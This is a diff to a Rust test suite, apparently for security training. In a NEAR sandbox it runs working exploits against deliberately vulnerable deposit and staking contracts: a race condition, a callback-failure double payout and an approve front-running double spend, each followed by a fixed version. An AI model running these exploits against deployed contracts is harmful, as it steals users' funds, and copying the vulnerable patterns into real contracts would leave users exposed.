@@ -5,51 +5,71 @@ use near_workspaces::{operations::Function, Account, Contract};
 // contract.
 use serde_json::json;
 
+use crate::{
+    fixtures::{assert_fails_with, ContractHandle, Fixture, FixtureBuilder},
+    report,
+    wasm::wasm,
+};
+
 const TGAS: u64 = 1_000_000_000_000;
 
-const DEPOSIT_CONTRACT: &[u8] =
-    include_bytes!("../../res/deposit_contract.wasm");
-const STAKING_CONTRACT: &[u8] = include_bytes!("../../res/staking.wasm");
+const DEPOSIT_CONTRACT: &str = "deposit_contract";
+const STAKING_CONTRACT: &str = "staking";
 
 const DEPOSIT_AMOUNT: NearToken = NearToken::from_near(20);
 
+struct Env {
+    malicious_actor: Account,
+    deposit_contract: Contract,
+    staking_contract: Contract,
+}
+
 // Prepares and deploys RACE CONDITION contracts
-async fn prepare_race_condition(
-) -> color_eyre::Result<(Contract, Contract, Account)> {
-    let worker = near_workspaces::sandbox().await?;
-    let deposit_contract = worker.dev_deploy(DEPOSIT_CONTRACT).await?;
-    let staking_contract = worker.dev_deploy(STAKING_CONTRACT).await?;
-    let malicious_actor = worker.dev_create_account().await?;
+async fn prepare_race_condition() -> color_eyre::Result<Env> {
+    let mut builder = Fixture::builder();
 
-    let _ = deposit_contract
-        .call("new")
-        .args_json(json!({"staking_contract": staking_contract.id(),}))
-        .transact()
-        .await?;
+    let malicious_actor = builder.account();
+    let (deposit, staking) = deposit_and_staking(&mut builder);
 
-    println!(
-        "Deposit contract deployed: {}",
-        deposit_contract.id().to_string()
+    builder.init(
+        staking,
+        "new",
+        move |fixture| json!({"account": fixture[deposit].id()}),
     );
 
-    let _ = staking_contract
-        .call("new")
-        .args_json(json!({"account": deposit_contract.id(),}))
-        .transact()
-        .await?;
+    let fixture = builder.build().await?;
+
+    Ok(Env {
+        malicious_actor: fixture[malicious_actor].clone(),
+        deposit_contract: fixture[deposit].clone(),
+        staking_contract: fixture[staking].clone(),
+    })
+}
+
+/// Adds the deposit contract, initialized to stake through the staking
+/// contract. The staking contract is left for the caller to initialize
+/// with the account it allowlists.
+fn deposit_and_staking(
+    builder: &mut FixtureBuilder,
+) -> (ContractHandle, ContractHandle) {
+    let deposit = builder.contract(wasm(DEPOSIT_CONTRACT));
+    let staking = builder.contract(wasm(STAKING_CONTRACT));
 
-    println!("Staking contract deployed: {:#?}", staking_contract.id());
+    builder.init(
+        deposit,
+        "new",
+        move |fixture| json!({"staking_contract": fixture[staking].id()}),
+    );
 
-    Ok((deposit_contract, staking_contract, malicious_actor))
+    (deposit, staking)
 }
 
-#[tokio::test]
-async fn exploit_race_condition() -> color_eyre::Result<()> {
-    let (deposit_contract, staking_contract, malicious_actor): (
-        Contract,
-        Contract,
-        Account,
-    ) = prepare_race_condition().await?;
+pub async fn exploit_race_condition() -> color_eyre::Result<()> {
+    let Env {
+        malicious_actor,
+        deposit_contract,
+        staking_contract,
+    } = prepare_race_condition().await?;
 
     //Deposit into deposit contract
     let res = malicious_actor
@@ -62,6 +82,8 @@ async fn exploit_race_condition() -> color_eyre::Result<()> {
 
     println!("Deposited: {:?}", res.logs());
 
+    report::attacker_profit(-(DEPOSIT_AMOUNT.as_yoctonear() as i128));
+
     // Constructing batch call ourselves
 
     malicious_actor
@@ -104,6 +126,8 @@ async fn exploit_race_condition() -> color_eyre::Result<()> {
         exploit_contract_balance
     );
 
+    let balance_before_withdraw = exploit_contract_balance;
+
     let res = malicious_actor
         .call(staking_contract.id(), "withdraw_stake")
         .args_json(
@@ -123,6 +147,11 @@ async fn exploit_race_condition() -> color_eyre::Result<()> {
         exploit_contract_balance
     );
 
+    report::attacker_profit(
+        exploit_contract_balance.as_yoctonear() as i128
+            - balance_before_withdraw.as_yoctonear() as i128,
+    );
+
     let staked_amount = staking_contract
         .call("view_stake")
         .args_json(
@@ -139,3 +168,403 @@ async fn exploit_race_condition() -> color_eyre::Result<()> {
 
     Ok(())
 }
+
+pub async fn callback_failure_does_not_revert_staking() -> color_eyre::Result<()>
+{
+    let Env {
+        malicious_actor,
+        deposit_contract,
+        staking_contract,
+    } = prepare_race_condition().await?;
+
+    malicious_actor
+        .call(deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    // The transaction itself succeeds: the failing receipt is the callback,
+    // which runs after the staking receipt has already been committed.
+    let res = malicious_actor
+        .call(deposit_contract.id(), "stake_and_track")
+        .args_json(json!({
+            "validator": "test.near",
+            "amount": U128(DEPOSIT_AMOUNT.as_yoctonear()),
+        }))
+        .gas(Gas::from_tgas(100))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let callback_failures = res.receipt_failures();
+
+    assert_eq!(callback_failures.len(), 1);
+    assert_eq!(callback_failures[0].executor_id, *deposit_contract.id());
+    assert!(format!("{:?}", callback_failures[0])
+        .contains("Failed to deserialize callback using JSON"));
+
+    let staked_amount = staking_contract
+        .call("view_stake")
+        .args_json(
+            json!({"account": malicious_actor.id(), "validator": "test.near"}),
+        )
+        .transact()
+        .await?
+        .into_result()?
+        .json::<U128>()?;
+
+    let near_deposit = deposit_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": malicious_actor.id()}))
+        .await?
+        .json::<U128>()?;
+
+    // Both ledgers hold the full amount: nothing rolled back the stake.
+    assert_eq!(staked_amount.0, DEPOSIT_AMOUNT.as_yoctonear());
+    assert_eq!(near_deposit.0, DEPOSIT_AMOUNT.as_yoctonear());
+
+    let balance_before = malicious_actor.view_account().await?.balance;
+
+    malicious_actor
+        .call(deposit_contract.id(), "withdraw_near")
+        .args_json(json!({"amount": U128(DEPOSIT_AMOUNT.as_yoctonear())}))
+        .transact()
+        .await?
+        .into_result()?;
+
+    malicious_actor
+        .call(staking_contract.id(), "withdraw_stake")
+        .args_json(json!({
+            "validator": "test.near",
+            "amount": U128(DEPOSIT_AMOUNT.as_yoctonear()),
+        }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let balance_after = malicious_actor.view_account().await?.balance;
+
+    // The same deposit was paid out twice, minus the gas of two calls.
+    assert!(
+        balance_after.as_yoctonear() - balance_before.as_yoctonear()
+            > DEPOSIT_AMOUNT.as_yoctonear() * 2
+                - NearToken::from_millinear(10).as_yoctonear()
+    );
+
+    Ok(())
+}
+
+pub async fn callback_failure_fixed() -> color_eyre::Result<()> {
+    let Env {
+        malicious_actor,
+        deposit_contract,
+        staking_contract,
+    } = prepare_race_condition().await?;
+
+    malicious_actor
+        .call(deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    let staked = malicious_actor
+        .call(deposit_contract.id(), "stake_safe")
+        .args_json(json!({
+            "validator": "test.near",
+            "amount": U128(DEPOSIT_AMOUNT.as_yoctonear()),
+        }))
+        .gas(Gas::from_tgas(100))
+        .transact()
+        .await?
+        .json::<bool>()?;
+
+    assert!(staked);
+
+    let staked_amount = staking_contract
+        .call("view_stake")
+        .args_json(
+            json!({"account": malicious_actor.id(), "validator": "test.near"}),
+        )
+        .transact()
+        .await?
+        .into_result()?
+        .json::<U128>()?;
+
+    let near_deposit = deposit_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": malicious_actor.id()}))
+        .await?
+        .json::<U128>()?;
+
+    assert_eq!(staked_amount.0, DEPOSIT_AMOUNT.as_yoctonear());
+    assert_eq!(near_deposit.0, 0);
+
+    // Nothing left to withdraw from the deposit contract.
+    let result = malicious_actor
+        .call(deposit_contract.id(), "withdraw_near")
+        .args_json(json!({"amount": U128(DEPOSIT_AMOUNT.as_yoctonear())}))
+        .transact()
+        .await?;
+
+    assert_fails_with(result, "Not enough money");
+
+    // A failing staking call is refunded by the callback instead of panicking.
+    // The deposit contract is not allowlisted, so every stake is rejected.
+    let mut builder = Fixture::builder();
+
+    let user = builder.account();
+    let (deposit, staking) = deposit_and_staking(&mut builder);
+
+    builder.init(
+        staking,
+        "new",
+        move |fixture| json!({"account": fixture[user].id()}),
+    );
+
+    let fixture = builder.build().await?;
+    let deposit_contract = &fixture[deposit];
+    let user = &fixture[user];
+
+    user.call(deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    let staked = user
+        .call(deposit_contract.id(), "stake_safe")
+        .args_json(json!({
+            "validator": "test.near",
+            "amount": U128(DEPOSIT_AMOUNT.as_yoctonear()),
+        }))
+        .gas(Gas::from_tgas(100))
+        .transact()
+        .await?
+        .json::<bool>()?;
+
+    assert!(!staked);
+
+    let near_deposit = deposit_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": user.id()}))
+        .await?
+        .json::<U128>()?;
+
+    assert_eq!(near_deposit.0, DEPOSIT_AMOUNT.as_yoctonear());
+
+    Ok(())
+}
+
+struct AllowanceEnv {
+    owner: Account,
+    spender: Account,
+    deposit_contract: Contract,
+    staking_contract: Contract,
+}
+
+// Deposit and staking contracts plus an owner with a deposit and a spender
+async fn prepare_allowance() -> color_eyre::Result<AllowanceEnv> {
+    let mut builder = Fixture::builder();
+
+    let owner = builder.account();
+    let spender = builder.account();
+    let (deposit, staking) = deposit_and_staking(&mut builder);
+
+    builder.init(
+        staking,
+        "new",
+        move |fixture| json!({"account": fixture[deposit].id()}),
+    );
+
+    let fixture = builder.build().await?;
+
+    fixture[owner]
+        .call(fixture[deposit].id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    Ok(AllowanceEnv {
+        owner: fixture[owner].clone(),
+        spender: fixture[spender].clone(),
+        deposit_contract: fixture[deposit].clone(),
+        staking_contract: fixture[staking].clone(),
+    })
+}
+
+async fn stake_of(
+    staking_contract: &Contract,
+    account: &Account,
+) -> color_eyre::Result<u128> {
+    let stake = staking_contract
+        .call("view_stake")
+        .args_json(json!({"account": account.id(), "validator": "test.near"}))
+        .transact()
+        .await?
+        .into_result()?
+        .json::<U128>()?;
+
+    Ok(stake.0)
+}
+
+fn stake_from(owner: &Account, amount: NearToken) -> Function {
+    Function::new("stake_from")
+        .args_json(json!({
+            "owner_id": owner.id(),
+            "validator": "test.near",
+            "amount": U128(amount.as_yoctonear()),
+        }))
+        .gas(Gas::from_tgas(50))
+}
+
+pub async fn approve_front_running() -> color_eyre::Result<()> {
+    let AllowanceEnv {
+        owner,
+        spender,
+        deposit_contract,
+        staking_contract,
+    } = prepare_allowance().await?;
+
+    owner
+        .call(deposit_contract.id(), "approve")
+        .args_json(json!({
+            "spender_id": spender.id(),
+            "amount": U128(NearToken::from_near(10).as_yoctonear()),
+        }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    // The spender has no stake before the attack.
+    report::state_before("spender stake", U128(0));
+
+    // The owner decides to lower the allowance to 5 NEAR. The spender sees
+    // the `approve` pending and gets a batch spending the whole old
+    // allowance in ahead of it. Which of two pending transactions executes
+    // first is up to the chunk producer, so the batch is sent first and the
+    // `approve` only once the batch landed.
+    let front_run = spender
+        .batch(deposit_contract.id())
+        .call(stake_from(&owner, NearToken::from_near(4)))
+        .call(stake_from(&owner, NearToken::from_near(6)))
+        .transact()
+        .await?;
+
+    report::gas_burnt(front_run.total_gas_burnt);
+    front_run.into_result()?;
+
+    owner
+        .call(deposit_contract.id(), "approve")
+        .args_json(json!({
+            "spender_id": spender.id(),
+            "amount": U128(NearToken::from_near(5).as_yoctonear()),
+        }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    // `approve` overwrote the allowance, so the spender gets 5 NEAR more.
+    let double_spend = spender
+        .batch(deposit_contract.id())
+        .call(stake_from(&owner, NearToken::from_near(5)))
+        .transact()
+        .await?;
+
+    report::gas_burnt(double_spend.total_gas_burnt);
+    double_spend.into_result()?;
+
+    let stolen = stake_of(&staking_contract, &spender).await?;
+
+    assert_eq!(stolen, NearToken::from_near(15).as_yoctonear());
+
+    report::state_after("spender stake", U128(stolen));
+    // The owner never allowed more than 10 NEAR at once.
+    report::attacker_profit(
+        stolen as i128 - NearToken::from_near(10).as_yoctonear() as i128,
+    );
+
+    let near_deposit = deposit_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": owner.id()}))
+        .await?
+        .json::<U128>()?;
+
+    assert_eq!(near_deposit.0, NearToken::from_near(5).as_yoctonear());
+
+    let allowance = deposit_contract
+        .view("view_allowance")
+        .args_json(json!({"owner_id": owner.id(), "spender_id": spender.id()}))
+        .await?
+        .json::<U128>()?;
+
+    assert_eq!(allowance.0, 0);
+
+    Ok(())
+}
+
+pub async fn approve_front_running_fixed() -> color_eyre::Result<()> {
+    let AllowanceEnv {
+        owner,
+        spender,
+        deposit_contract,
+        staking_contract,
+    } = prepare_allowance().await?;
+
+    owner
+        .call(deposit_contract.id(), "increase_allowance")
+        .args_json(json!({
+            "spender_id": spender.id(),
+            "amount": U128(NearToken::from_near(10).as_yoctonear()),
+        }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    // The same front-run as in `approve_front_running`.
+    spender
+        .batch(deposit_contract.id())
+        .call(stake_from(&owner, NearToken::from_near(4)))
+        .call(stake_from(&owner, NearToken::from_near(6)))
+        .transact()
+        .await?
+        .into_result()?;
+
+    // Lowering relative to the current value fails once the old allowance
+    // is spent instead of granting a new one.
+    let lower = owner
+        .call(deposit_contract.id(), "decrease_allowance")
+        .args_json(json!({
+            "spender_id": spender.id(),
+            "amount": U128(NearToken::from_near(5).as_yoctonear()),
+        }))
+        .transact()
+        .await?;
+
+    assert_fails_with(lower, "Allowance below zero");
+
+    let result = spender
+        .batch(deposit_contract.id())
+        .call(stake_from(&owner, NearToken::from_near(5)))
+        .transact()
+        .await?;
+
+    assert_fails_with(result, "Not enough allowance");
+
+    assert_eq!(
+        stake_of(&staking_contract, &spender).await?,
+        NearToken::from_near(10).as_yoctonear()
+    );
+
+    let allowance = deposit_contract
+        .view("view_allowance")
+        .args_json(json!({"owner_id": owner.id(), "spender_id": spender.id()}))
+        .await?
+        .json::<U128>()?;
+
+    assert_eq!(allowance.0, 0);
+
+    Ok(())
+}